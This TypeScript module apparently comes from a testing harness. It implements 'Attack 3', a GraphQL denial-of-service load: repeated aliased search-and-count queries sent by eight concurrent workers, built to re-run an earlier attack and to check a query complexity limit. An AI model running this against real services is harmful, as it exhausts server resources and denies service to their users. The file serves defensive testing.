/** Attack with expensive queries. */
import { createClient, newCounts } from '../system/client.ts';
import type { Attack } from './types.ts';

const CONCURRENCY = 8;

/**
 * Attack 3: one account counts the matches of a two-character search, several times per request, with 8 concurrent requests.
 *
 * @param aliases 29, as in the original attack, or 5, which the complexity limit allows
 * @param term two letters: many names contain `at`, many begin with `ma`
 */
export const countMatches =
  (aliases: number, term: string): Attack =>
  async ({ url, token, seconds }, count) => {
    const fields = Array.from(
      { length: aliases },
      (_, at) => `a${at}:users(filter:{search:"${term}"}){totalCount}`,
    );
    const call = createClient(url, newCounts());
    const end = Date.now() + seconds * 1_000;
    const keepAsking = async () => {
      const query = `{${fields.join(' ')}}`;
      while (Date.now() < end) count((await call('users', { query, token })).code);
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, keepAsking));
  };
